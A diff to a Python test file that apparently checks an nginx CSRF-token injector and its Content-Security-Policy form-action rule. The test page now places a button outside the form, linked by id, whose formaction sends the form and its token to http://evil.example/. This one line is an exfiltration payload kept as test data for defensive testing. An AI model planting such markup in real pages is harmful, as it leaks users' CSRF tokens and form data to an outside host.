@@ -15,9 +15,12 @@ import unittest
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 import ngxtest as T  # noqa: E402
 
+# A form with the token, then a button outside it that names it and sends
+# it elsewhere: the one case the injector can only report, the CSP's to
+# stop (a formaction inside the form costs the form its token).
 PAGE = (b"<!DOCTYPE html><html><head><title>t</title></head><body>"
-        b"<form method=post action=/echo><input name=a><button formaction=http://evil.example/>x</button></form>"
-        b"</body></html>")
+        b"<form id=f method=post action=/echo><input name=a></form>"
+        b"<button form=f formaction=http://evil.example/>x</button></body></html>")
 OURS = "form-action 'self' https://trusted.example:8443 http://other.example; base-uri 'self'"
 OURS_PLAIN = "form-action 'self'; base-uri 'self'"
 
